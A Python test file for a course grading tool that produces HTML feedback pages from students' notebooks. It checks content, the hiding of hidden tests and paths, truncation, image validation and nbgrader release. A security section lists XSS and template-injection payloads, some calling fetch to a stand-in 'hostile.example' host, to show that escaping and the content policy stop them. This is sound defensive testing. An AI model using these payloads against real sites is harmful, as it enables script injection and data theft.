"""A student's page: all that it must say, nothing that it must not, and nothing that acts."""

from __future__ import annotations

import base64
import binascii
import hashlib
import html
import re
import struct
import subprocess
import sys
import zlib
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pytest
from class_cases import (
    SLUG,
    InProcessExecutor,
    answers,
    by_length,
    copied,
    hand_in,
    released_course,
)
from hypothesis import given, settings
from hypothesis import strategies as st

from course_lib.checks.report import Finding, Part, Report
from course_lib.grading.authoring.trial import build_submission
from course_lib.grading.course import Course, CourseError, this_course
from course_lib.grading.feedback.student_page import feedback_page, task_titles, write_feedback
from course_lib.grading.gradebook.nbgrader import open_gradebook
from course_lib.grading.gradebook.scores import CellScore, Scores, read_scores
from course_lib.grading.jobs import Result, TaskResult
from course_lib.grading.notebooks import grade_id
from course_lib.grading.outcome import Options
from course_lib.grading.results import ResultStore
from course_lib.grading.run import grade
from course_lib.grading.sanitize import first_lines, highlighted, picture, printable_text

HERE = this_course()
SEED = 987_654_321_012
WRONG = TaskResult(
    "check_mul_layer",
    2.0,
    4.0,
    Report(
        "mul_layer",
        (
            Part("forward", 1, 1),
            Part("dx", 1, 0, "has the wrong values"),
            Part("dy", 2, 1),
        ),
        Finding(
            "dx from MulLayer.backward has wrong values.",
            wanted="[2. 4.]",
            got="[1. 1.]",
            hint="What does your backward do with dout?",
            misconception="ForgetsUpstream",
        ),
        read=f"{SLUG}#product-node",
        seed=SEED,
    ),
)
RIGHT = TaskResult(
    "check_add_layer",
    3.0,
    3.0,
    Report("add_layer", (Part("forward", 3, 3),), notice="Both get the same."),
)


def found(task: TaskResult, *parts: Part, **words: str) -> TaskResult:
    """A result whose check found something else."""
    finding = replace(task.finding, **words)
    report = replace(task.report, parts=parts or task.report.parts, finding=finding)
    return replace(task, report=report)


PROBLEM = "The process of this work is gone: it ended, with the exit code 3."


def notebook(cells: Mapping[str, str] | None = None, *own: Any) -> Any:
    """A rebuilt notebook: the student's answers, and cells of the student's own after the first."""
    made = build_submission(SLUG, cells or {}, HERE)
    for number, cell in enumerate(own, start=1):
        made.cells.insert(3 + number, nbformat.from_dict({"id": f"own-{number}", **cell}))
    return made


def own(source: str, *outputs: dict[str, Any], kind: str = "code") -> dict[str, Any]:
    return {"cell_type": kind, "metadata": {}, "source": source, "outputs": list(outputs)}


def printed(text: object) -> dict[str, Any]:
    return {"output_type": "stream", "name": "stdout", "text": text}


def displayed(**data: object) -> dict[str, Any]:
    kinds = {"text": "text/plain", "html": "text/html", "svg": "image/svg+xml"}
    kinds |= {"png": "image/png", "jpeg": "image/jpeg", "js": "application/javascript"}
    shown = {kinds[name]: value for name, value in data.items()}
    return {"output_type": "display_data", "metadata": {}, "data": shown}


def page(
    nb: Any = None,
    tasks: tuple[TaskResult, ...] = (WRONG, RIGHT),
    scores: Scores | None = None,
    problems: tuple[str, ...] = (),
    student: str = "ada",
    **result: Any,
) -> str:
    about = Result(student, SLUG, tasks, seed=SEED, isolation="bubblewrap 1", **result)
    return feedback_page(HERE, nb, about, scores, problems)


class _Words(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.words.append("" if tag in ("span", "strong", "code") else " ")

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def words(text: str) -> str:
    """What a reader sees of a page, each run of spaces as one."""
    parser = _Words()
    parser.feed(text.partition("</head>")[2])
    return " ".join("".join(parser.words).split())


def scores(**cells: CellScore) -> Scores:
    return Scores("ada", SLUG, {cell.name: cell for cell in cells.values()})


# --- what it says ---------------------------------------------------------------------------------


def test_it_says_points_and_reasons_by_task() -> None:
    said = words(page(notebook({"mul_layer": "class MulLayer: ..."})))
    assert "Exercise 1: the shopping cart" in said
    assert "Feedback for ada" in said
    assert "5 of 33 points" in said  # 2 + 3
    assert "Task 1: a product node in part 2 / 4" in said
    assert "Task 2: a sum node all right 3 / 3" in said
    assert "✓ forward 1 / 1 earned" in said
    assert "✗ dx 0 / 1 has the wrong values" in said
    assert "✗ dy 1 / 2" in said
    assert (
        "dx from MulLayer.backward has wrong values. Wanted [2. 4.] Got [1. 1.] "
        "Think What does your backward do with dout? "
        f"Read chapter {SLUG}, section “product-node”"
    ) in said
    assert "Both get the same." in said
    assert "Your code class MulLayer: ..." in said


def test_the_tasks_stand_in_the_notebooks_order_with_their_own_code() -> None:
    made = page(notebook({"mul_layer": "FIRST = 1", "add_layer": "SECOND = 2", "explain": "WORDS"}))
    said = words(made)
    order = [
        "FIRST = 1",
        "Task 2: a sum node",
        "SECOND = 2",
        "Task 3: the cart",
        "Your words WORDS",
    ]
    places = [said.rindex(text) for text in order]
    assert places == sorted(places)


def test_what_a_person_gave_counts_and_is_shown() -> None:
    given = replace(
        scores(
            a=CellScore("check_mul_layer", 3.5, 4, by_person=True),
            b=CellScore("check_add_layer", 3, 3),
            c=CellScore("explain", 0, 3, waits=True),
        ),
        comments={"mul_layer": "Nearly.\n<b>Look</b> at dout.", "explain": "No response."},
        first_name="Ada",
        last_name="Lovelace",
        late_penalty=1.5,
    )
    said = words(page(notebook(), scores=given))
    assert "Feedback for Ada Lovelace" in said
    assert "5 of 33 points" in said  # 3.5 + 3 - 1.5
    assert "It came late: 1.5 points were taken off." in said
    assert "3.5 of 4 points, as a person decided" in said
    assert "Comment Nearly. <b>Look</b> at dout." in said
    assert "Task 8: explain a person will read it 0 / 3" in said


def test_what_is_in_the_way_is_said_once() -> None:
    made = page(notebook(), problems=("A cell is missing.", PROBLEM))
    assert words(made).count(PROBLEM) == 1
    result = Result("ada", SLUG, (WRONG,), problems=(PROBLEM,))
    said = words(feedback_page(HERE, notebook(), result, None, ("A cell is missing.", PROBLEM)))
    assert said.count(PROBLEM) == 1
    assert said.count("A cell is missing.") == 1
    assert "A person will look at it." in said


def test_a_work_that_nobody_could_read_has_a_page() -> None:
    given = scores(a=CellScore("check_mul_layer", 0, 4, waits=True))
    result = Result("ada", SLUG)
    said = words(feedback_page(HERE, None, result, given, ("It is no notebook.",)))
    assert "It is no notebook." in said
    assert "mul_layer a person will read it 0 / 4" in said
    assert "0 of 4 points" in said
    assert words(feedback_page(HERE, None, result)).startswith(SLUG)


def test_cells_of_ones_own_are_shown_where_they_stand() -> None:
    nb = notebook(
        {"mul_layer": "x = 1"}, own("print(1)", printed("1\n")), own("Mine.", kind="markdown")
    )
    said = words(page(nb))
    assert "Your code print(1) What it showed 1 Your words Mine." in said


def test_what_cells_showed_comes_from_the_result_or_else_from_the_notebook() -> None:
    nb = notebook({}, own("print(1)", printed("from the notebook")))
    assert "from the notebook" in page(nb)
    outputs = tuple(
        [printed("from the result")] if cell["id"] == "own-1" else [] for cell in nb.cells
    )
    made = page(nb, outputs=outputs)
    assert "from the result" in made
    assert "from the notebook" not in made


def test_one_can_read_an_error_a_result_and_a_picture() -> None:
    failed = {
        "output_type": "error",
        "ename": "KeyError",
        "evalue": "'slop'",
        "traceback": ["  line 2 of cell 3", "\x1b[31mKeyError\x1b[0m: 'slop'"],
    }
    nb = notebook({}, own("f()", printed("a"), printed("b\n"), displayed(text="3.5"), failed))
    made = page(nb)
    assert '<pre class="output">ab\n</pre>' in made
    assert '<pre class="output">3.5</pre>' in made
    assert '<pre class="output bad">  line 2 of cell 3\nKeyError: &#39;slop&#39;</pre>' in made
    nb = notebook({}, own("plot()", displayed(png=png(4, 3), text="<Figure>")))
    assert f'<img src="data:image/png;base64,{png(4, 3)}" width="4" height="3" alt="' in page(nb)


# --- what it does not say -------------------------------------------------------------------------


def test_it_shows_no_grade_cell_and_no_seed() -> None:
    nb = notebook({"mul_layer": "x = 1"})
    for cell in nb.cells:
        if grade_id(cell).startswith("check_"):
            cell.source = f"{cell.source}\nassert HIDDEN_TEST"
            cell.outputs = [printed("OUTPUT OF THE CHECK")]
    made = page(nb)
    assert "HIDDEN_TEST" not in made
    assert "OUTPUT OF THE CHECK" not in made
    assert "checks." not in made
    assert str(SEED) not in made
    assert "ForgetsUpstream" not in made  # its name is for instructors


def test_it_shows_no_path_of_this_machine() -> None:
    course, home = str(HERE.root), str(Path.home())
    problem = f"It can't be read: '{course}/submitted/ada/x.ipynb' nor /etc/secret/key.pem."
    wrong = found(WRONG, problem=f"OSError: {home}/x/y.txt", got=f"{sys.prefix}/lib/z.py")
    nb = notebook({}, own("f()", printed(f"File {course}/solutions/a.md, {home}/b")))
    made = page(nb, (wrong,), problems=(problem,))
    for secret in (course, f"{home}/", sys.prefix, "/etc/secret"):
        assert secret not in made
    assert "…/x.ipynb" in made
    assert "…/key.pem" in made
    assert "dL/dx" in page(nb, (found(WRONG, problem="dL/dx and a / b / c"),))
    assert "a / b / c" in page(nb, (found(WRONG, problem="dL/dx and a / b / c"),))


def test_it_is_small_and_whole() -> None:
    made = page(notebook(answers(HERE)))
    assert len(made.encode()) < 60_000
    assert not re.search(r'(?:src|href)="(?!#|data:image/(?:png|jpeg);base64,)', made)
    assert "<script" not in made
    assert "default-src 'none'; img-src data:; style-src 'unsafe-inline'" in made


def test_what_is_much_is_cut_and_says_so() -> None:
    nb = notebook({"mul_layer": "x = 1\n" * 20_000}, own("f()", printed("x" * 5_000_000)))
    made = page(nb)
    assert len(made) < 400_000
    assert "4,992,000 more characters are left out here." in made
    lines = page(notebook({}, own("f()", printed("\n".join("abc" for _ in range(1000))))))
    assert "… 800 more lines are left out here." in lines
    many = notebook({}, *(own("f()", *[printed("y" * 20_000)] * 50) for _ in range(50)))
    assert len(page(many)) < 400_000
    pictures = notebook({}, *(own("p()", displayed(png=big_png())) for _ in range(30)))
    assert len(page(pictures)) < 1_700_000


# --- text of strangers ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]0;title\x07text", "text"),
        ("\x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("\x1b(Bplain\x1bc", "plain"),
        ("\x9b31mC1", "\ufffd31mC1"),
        ("50%\r100%\n", "100%\n"),
        ("a\r\nb", "a\nb"),
        ("a\u202eb\u2066c", "a[U+202E]b[U+2066]c"),
        ("zero\u200bwidth\ufeff", "zero[U+200B]width[U+FEFF]"),
        ("half \ud800 half", "half \ufffd half"),
        ("nul\x00bell\x07", "nul\ufffdbell\ufffd"),
        ("tab\tand\nline", "tab\tand\nline"),
        ("zwj 👩\u200d🔬 ok", "zwj 👩\u200d🔬 ok"),
        (b"bytes", ""),
        (None, ""),
        (["list"], ""),
    ],
)
def test_readable(written: object, shown: str) -> None:
    assert printable_text(written) == shown


def test_long_text_is_cut() -> None:
    assert printable_text("abcdef", 4) == "abcd\n… 2 more characters are left out here."
    assert first_lines("a\nb\nc", 2) == "a\nb\n… 1 more lines are left out here."
    assert len(first_lines("x" * 9999, 2)) == 2001


@given(st.text())
@settings(max_examples=200, deadline=None)
def test_highlighting_changes_no_character_and_lets_no_tag_through(code: str) -> None:
    made = str(highlighted(code))
    assert html.unescape(re.sub(r'<span class="[a-z]">|</span>', "", made)) == code
    assert not re.search(r'<(?!span class="[a-z]">|/span>)', made)


def test_highlighting_marks_words() -> None:
    assert str(highlighted("def f(): return 'a<b'  # ok")) == (
        '<span class="k">def </span><span class="f">f</span>(): <span class="k">return </span>'
        '<span class="s">&#x27;a&lt;b&#x27;  </span><span class="c"># ok</span>'
    )


# --- pictures -------------------------------------------------------------------------------------


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(
    width: int, height: int, *extra: bytes, after: bytes = b"", pixels: bytes | None = None
) -> str:
    raw = b"".join(b"\0" + bytes(width) for _ in range(height)) if pixels is None else pixels
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    body = b"".join([head, *extra, chunk(b"IDAT", zlib.compress(raw)), chunk(b"IEND", b"")])
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + body + after).decode()


def big_png() -> str:
    import random

    noise = random.Random(0).randbytes(300_000)
    return png(550, 545, pixels=noise)


def jpeg(width: int = 5, height: int = 4) -> bytes:
    app = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0" + bytes(9)
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, height, width, 3) + bytes(9)
    return b"\xff\xd8" + app + frame + b"\xff\xd9"


def test_a_picture_is_one() -> None:
    assert picture("image/png", png(4, 3)).address == f"data:image/png;base64,{png(4, 3)}"
    made = picture("image/jpeg", base64.b64encode(jpeg()).decode())
    assert (made.width, made.height) == (5, 4)
    lines = "\n".join(re.findall(".{1,20}", png(4, 3)))
    assert picture("image/png", lines) == picture("image/png", png(4, 3))


def test_nothing_stays_in_a_picture_that_does_not_draw_it() -> None:
    text = chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")
    assert picture("image/png", png(4, 3, text, after=b"<html>")) == picture("image/png", png(4, 3))


@pytest.mark.parametrize(
    ("kind", "encoded"),
    [
        ("image/png", base64.b64encode(b"<svg onload=alert(1)>").decode()),
        ("image/png", base64.b64encode(jpeg()).decode()),
        ("image/png", png(0, 4)),
        ("image/png", png(2**31 - 1, 2**31 - 1, pixels=b"")),
        ("image/png", png(4000, 4000, pixels=b"")),
        ("image/png", png(4, 3)[:40]),
        ("image/png", png(4, 3) + '"><script>alert(1)</script>'),
        ("image/png", "data:image/png;base64," + png(4, 3)),
        ("image/png", "é" * 8),
        ("image/png", "A" * 1_000_000),
        ("image/png", None),
        ("image/png", [png(4, 3)]),
        ("image/jpeg", png(4, 3)),
        ("image/jpeg", base64.b64encode(b"\xff\xd8\xff\xd9").decode()),
        ("image/jpeg", base64.b64encode(jpeg()[:-2]).decode()),
        ("image/svg+xml", base64.b64encode(b"<svg/>").decode()),
        ("text/html", png(4, 3)),
    ],
)
def test_what_is_no_picture_is_none(kind: str, encoded: object) -> None:
    assert picture(kind, encoded) is None


def test_a_chunk_with_a_wrong_sum_is_none() -> None:
    data = bytearray(base64.b64decode(png(4, 3)))
    data[20] ^= 1
    assert binascii.crc32(data[12:29]) != struct.unpack(">I", data[29:33])[0]
    assert picture("image/png", base64.b64encode(bytes(data)).decode()) is None


# --- strangers' things in a browser ---------------------------------------------------------------

RUN = "window.ran = true; fetch('http://hostile.example/' + document.title)"
MARKUP = [
    f"<script>{RUN}</script>",
    f"</style><script>{RUN}</script><style>",
    f"</title></head><body><script>{RUN}</script>",
    f'--></pre></code></section></main><img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}"></svg>',
    f'"><details open ontoggle="{RUN}">',
    f"' autofocus onfocus=\"{RUN}\" tabindex=1 x='",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<meta http-equiv=refresh content='0;url=http://hostile.example/'>",
    "<link rel=stylesheet href=http://hostile.example/a.css><base href=http://hostile.example/>",
    "<style>@import 'http://hostile.example/b.css'; *{background:url(http://hostile.example/c)}</style>",
    "<form action=http://hostile.example/><input type=submit autofocus></form>",
    f'<a href="javascript:{RUN}">click</a> [click](javascript:{RUN})',
    "![p](http://hostile.example/p.png) <img src=http://hostile.example/q.png>",
    "<object data=http://hostile.example/o></object><embed src=http://hostile.example/e>",
    "{{ ''.__class__.__mro__ }} {% raw %} {{ css }} ${7*7} <%= 7*7 %>",
    f'<math><mtext></form><mglyph><style></math><img src onerror="{RUN}">',
    f"\ud800<script>{RUN}</script>\udfff\x00\ufeff+ADw-script+AD4-",
    "\u202e\u2066 nettelle \u2069 \u0000 \x1b]0;owned\x07 \x1b[2J",
    "a" * 20_000,
    "\u0301" * 3_000,
]
LEGAL = (
    "body, h1, h2, h3, header, main, section, p, strong, table, thead, tbody, caption, tr, th, td, "
)
LEGAL += "a, span, div, ul, li, ol, dl, dt, dd, pre, code, img, br, em"
SEEN = """(legal) => ({
  ran: window.ran === true,
  strange: [...document.querySelectorAll("body, body *")].filter((el) => !el.matches(legal))
    .map((el) => el.outerHTML.slice(0, 100)),
  acts: [...document.querySelectorAll("*")].flatMap((el) => [...el.attributes])
    .map((a) => a.name + "=" + a.value)
    .filter((a) => /^(on|srcdoc|formaction|xlink)/i.test(a) || /javascript:/i.test(a)),
  heads: document.querySelectorAll("title").length + document.querySelectorAll("style").length,
  inHead: [...document.head.children].map((el) => el.tagName.toLowerCase()).join(" "),
  links: [...document.querySelectorAll("[href], [src]")]
    .map((el) => el.getAttribute("href") || el.getAttribute("src"))
    .filter((link) => !/^(#|data:image\\/(png|jpeg);base64,|[.][.]\\/[.][.]\\/feedback\\/)/
      .test(link)),
})"""


@contextmanager
def opened(
    browser: Any, folder: Path, made: str, **options: Any
) -> Iterator[tuple[Any, list[str]]]:
    """Open a page, and note all that it asks for, says or shows beside itself."""
    file = folder / "page.html"
    file.write_bytes(made.encode())
    context = browser.new_context(**{"viewport": {"width": 900, "height": 900}} | options)
    tab = context.new_page()
    said: list[str] = []
    tab.on("request", lambda request: said.append(request.url))
    tab.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    tab.on("popup", lambda popup: said.append(popup.url))
    tab.on("console", lambda message: said.append(message.text))
    tab.on("pageerror", lambda error: said.append(str(error)))
    tab.goto(file.as_uri())
    try:
        yield tab, said
    finally:
        context.close()


def check_dead(browser: Any, folder: Path, made: str) -> None:
    with opened(browser, folder, made) as (tab, said):
        seen = tab.evaluate(SEEN, LEGAL)
        tab.wait_for_timeout(50)
        asked = [url for url in said if not url.startswith("data:image/")]
        assert asked == [(folder / "page.html").as_uri()]
    assert seen == {
        "ran": False,
        "strange": [],
        "acts": [],
        "heads": 2,
        "inHead": "meta meta meta meta meta title style",
        "links": [],
    }


def hostile_page(text: str) -> str:
    """A page with the same text in every place that somebody else writes."""
    wrong = found(
        WRONG,
        Part(text, 1, 0, text),
        **dict.fromkeys(("problem", "wanted", "got", "hint"), text),
    )
    wrong = replace(wrong, report=replace(wrong.report, read=text))
    failed = {"output_type": "error", "ename": text, "evalue": text, "traceback": [text, text]}
    alone = {"output_type": "error", "ename": text, "evalue": text, "traceback": []}
    nb = notebook(
        {"mul_layer": text, "explain": text},
        own(text, printed(text), displayed(text=text), displayed(html=text, svg=text, js=text)),
        own(text, displayed(png=text), displayed(jpeg=text), failed, alone),
        own(text, kind="markdown"),
        own(text, {"output_type": text, "data": text}, printed([text, 5, None])),
    )
    given = Scores(
        text,
        SLUG,
        {"check_mul_layer": CellScore("check_mul_layer", 1, 4)},
        {"mul_layer": text, "explain": text},
        first_name=text,
        last_name=text,
    )
    right = replace(RIGHT, report=replace(RIGHT.report, notice=text))
    return page(nb, (wrong, right), given, (text,), student=text)


@pytest.mark.parametrize("text", MARKUP, ids=lambda text: ascii(text[:30]))
def test_nothing_that_a_stranger_wrote_acts(browser: Any, tmp_path: Path, text: str) -> None:
    made = hostile_page(text)
    made.encode("utf-8")
    check_dead(browser, tmp_path, made)


def test_the_browser_tests_notice_what_acts(browser: Any, tmp_path: Path) -> None:
    """Markup that is let through is found, even though the page's policy stops what it does."""
    from markupsafe import Markup

    tricked = page(notebook()).replace("Feedback for ada", Markup(MARKUP[0] + MARKUP[3]))
    with pytest.raises(AssertionError):
        check_dead(browser, tmp_path, tricked)


def test_the_policy_stops_what_would_get_through(browser: Any, tmp_path: Path) -> None:
    """The second wall: with all escaping gone, still no script runs and no request leaves."""
    bad = "".join(MARKUP[i] for i in (0, 3, 4, 7, 9, 10, 13, 14))
    made = page(notebook()).replace("Feedback for ada", bad)
    left: list[str] = []
    with opened(browser, tmp_path, "<!doctype html><title>t</title>") as (tab, _said):
        tab.context.route(
            "http://**/*", lambda route: (left.append(route.request.url), route.abort())
        )
        file = tmp_path / "bad.html"
        file.write_text(made)
        tab.goto(file.as_uri())
        tab.wait_for_timeout(100)
        assert tab.evaluate("window.ran") is None
        assert left == []
        # Without the policy all of it gets through: the page above was not dead by chance.
        file.write_text(re.sub("<meta http-equiv=.Content-Security-Policy.[^>]*>", "", made))
        tab.goto(file.as_uri())
        tab.wait_for_timeout(100)
        assert tab.evaluate("window.ran") is True
        assert len(left) > 3


def test_invisible_marks_are_seen() -> None:
    said = words(hostile_page(MARKUP[18]))
    assert "[U+202E][U+2066] nettelle" in said
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x00\x1b]", hostile_page(MARKUP[18]))


# --- readers --------------------------------------------------------------------------------------


def full_page() -> str:
    nb = notebook(
        answers(HERE),
        own("plot()", displayed(png=png(600, 400), text="<Figure>"), printed("w" * 3000)),
        own("Words of my own.", kind="markdown"),
    )
    given = Scores(
        "ada",
        SLUG,
        {
            "check_mul_layer": CellScore("check_mul_layer", 3, 4, by_person=True),
            "check_add_layer": CellScore("check_add_layer", 3, 3),
            "explain": CellScore("explain", 0, 3, waits=True),
        },
        {"mul_layer": "Nearly."},
        late_penalty=1,
    )
    return page(nb, (WRONG, RIGHT), given, (PROBLEM,))


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing(browser: Any, axe: str, tmp_path: Path, scheme: str) -> None:
    from browser import violations

    with opened(browser, tmp_path, full_page(), color_scheme=scheme, bypass_csp=True) as (tab, _):
        assert violations(tab, axe) == []


@pytest.mark.parametrize("made", [full_page, lambda: hostile_page("a" * 20_000)])
def test_it_fits_a_phone(browser: Any, tmp_path: Path, made: Any) -> None:
    from browser import sideways

    phone = {"viewport": {"width": 360, "height": 740}}
    with opened(browser, tmp_path, made(), **phone) as (tab, _):
        assert sideways(tab) == []


def test_on_paper_everything_is_black_on_white(browser: Any, tmp_path: Path) -> None:
    with opened(browser, tmp_path, full_page(), color_scheme="dark") as (tab, _):
        tab.emulate_media(media="print")
        colours = "(s) => [...document.querySelectorAll(s)].map((e) => getComputedStyle(e).color)"
        assert set(tab.evaluate(colours, "p, th, td, pre")) <= {"rgb(0, 0, 0)", "rgb(51, 51, 51)"}
        back = tab.evaluate("getComputedStyle(document.body).backgroundColor")
        assert back == "rgb(255, 255, 255)"


# --- files ----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Course:
    course = released_course(tmp_path_factory.mktemp("pages") / "my course")
    hand_in(course, "ada", answers(course), when="2026-03-01 12:00:00 UTC")
    hand_in(course, "bob", {"mul_layer": "x = 1"})
    hand_in(course, "eve", "no notebook")
    grade(course, [SLUG], InProcessExecutor(by_length), Options(seed=1))
    return course


@pytest.fixture
def course(graded: Course, tmp_path: Path) -> Course:
    return copied(graded, tmp_path / "my course")


def place(course: Course, student: str) -> Path:
    return course.root / "feedback" / student / SLUG / f"{SLUG}.html"


def test_grading_writes_the_pages_where_nbgrader_has_its_own(course: Course) -> None:
    assert "Feedback for ada" in place(course, "ada").read_text()
    assert "x = 1" in html.unescape(re.sub("<[^>]*>", "", place(course, "bob").read_text()))
    assert "What was in the way" in place(course, "eve").read_text()


def test_pages_are_written_again_with_what_people_gave(course: Course) -> None:
    with open_gradebook(course) as book:
        book.find_grade("explain", SLUG, SLUG, "ada").manual_score = 2.5
        book.find_grade("explain", SLUG, SLUG, "ada").needs_manual_grade = False
        book.find_comment("explain", SLUG, SLUG, "ada").manual_comment = "Well put."
        book.db.commit()
    before = place(course, "bob").read_text()
    written = write_feedback(course, SLUG)
    assert (written.pages, written.left_out) == (3, [])
    said = words(place(course, "ada").read_text())
    assert "2.5 of 3 points, as a person decided" in said
    assert "Well put." in said
    assert place(course, "bob").read_text() == before
    assert read_scores(course, SLUG)["ada"].by_person


def test_only_what_was_graded_gets_a_page(course: Course) -> None:
    hand_in(course, "bob", {"mul_layer": "x = 2"})
    hand_in(course, "kim", {"mul_layer": "x = 3"})
    ResultStore(course, SLUG).forget(["eve"])
    before = place(course, "bob").read_text()
    written = write_feedback(course, SLUG)
    assert written.pages == 1
    assert written.left_out == [
        "bob: handed in anew since it was graded",
        "eve: not graded yet",
        "kim: not graded yet",
    ]
    assert place(course, "bob").read_text() == before
    assert not place(course, "kim").exists()
    assert write_feedback(course, SLUG, ["ada"]).pages == 1


def nbgrader(course: Course, *command: str) -> None:
    subprocess.run(
        [sys.executable, "-m", "nbgrader", *command],
        cwd=course.root,
        check=True,
        capture_output=True,
        timeout=300,
    )


def collected(course: Course, student: str, cells: Mapping[str, str], secret: str) -> None:
    """Put a submission where `nbgrader collect` puts what `nbgrader submit` made."""
    folder = hand_in(course, student, cells, when="2026-03-01 12:00:00.000000 UTC").parent
    (folder / "submission_secret.txt").write_text(secret)


def released(course: Course, secret: str) -> bytes:
    """The page that `nbgrader fetch_feedback` finds by a secret."""
    name = hashlib.md5(secret.encode() + SLUG.encode()).hexdigest()
    (page,) = (course.root / "exchange").glob(f"*/feedback/{name}.html")
    return page.read_bytes()


def test_nbgrader_releases_the_pages_of_grading(course: Course) -> None:
    solved = answers(course)
    collected(course, "ada", solved, "first" * 20)
    collected(course, "bob", {"mul_layer": "x = 1"}, "bob's" * 20)
    grade(course, [SLUG], InProcessExecutor(by_length), Options(seed=1))
    first = place(course, "ada").read_bytes()
    # eve's submission has no secret; that does not stop the others
    nbgrader(course, "release_feedback", SLUG)
    assert released(course, "first" * 20) == first
    assert released(course, "bob's" * 20) == place(course, "bob").read_bytes()

    # the same cells once more: the page is that of the submission it is about
    collected(course, "ada", solved, "second" * 20)
    # and of somebody who then hands in by another way
    (course.root / "submitted" / "bob" / SLUG / "submission_secret.txt").unlink()
    grade(course, [SLUG], InProcessExecutor(by_length), Options(seed=1))
    beside = place(course, "bob").with_name("submission_secret.txt")
    assert beside.read_text() != "bob's" * 20
    nbgrader(course, "release_feedback", SLUG)
    assert released(course, "second" * 20) == place(course, "ada").read_bytes()


def test_nbgrader_can_put_its_own_page_in_place(course: Course) -> None:
    collected(course, "ada", answers(course), "first" * 20)
    grade(course, [SLUG], InProcessExecutor(by_length), Options(seed=1))
    made = place(course, "ada").read_bytes()
    nbgrader(course, "generate_feedback", SLUG, "--student=ada", "--force")
    theirs = place(course, "ada").read_bytes()
    assert theirs != made
    assert b"notebook" in theirs
    nbgrader(course, "release_feedback", SLUG, "--student=ada")
    assert released(course, "first" * 20) == theirs


@pytest.mark.parametrize("kind", ["link", "bytes", "large", "empty"])
def test_only_a_plain_short_secret_is_taken(course: Course, tmp_path: Path, kind: str) -> None:
    (tmp_path / "private").write_text("private")
    secret = course.root / "submitted" / "ada" / SLUG / "submission_secret.txt"
    if kind == "link":
        secret.symlink_to(tmp_path / "private")
    else:
        secret.write_bytes({"bytes": b"\xff", "large": b"a" * 2000, "empty": b""}[kind])
    assert write_feedback(course, SLUG, ["ada"]).pages == 1
    beside = place(course, "ada").with_name("submission_secret.txt")
    assert re.fullmatch("[0-9a-f]{64}", beside.read_text())


def test_the_headings_of_the_tasks() -> None:
    titles = task_titles(notebook())
    assert titles["check_mul_layer"] == "Task 1: a product node"
    assert titles["explain"] == "Task 8: explain"
    assert list(titles)[:2] == ["check_mul_layer", "check_add_layer"]


def test_an_assignment_that_was_not_released_is_said(course: Course) -> None:
    course.released(SLUG).unlink()
    with pytest.raises(CourseError, match="course release"):
        write_feedback(course, SLUG)
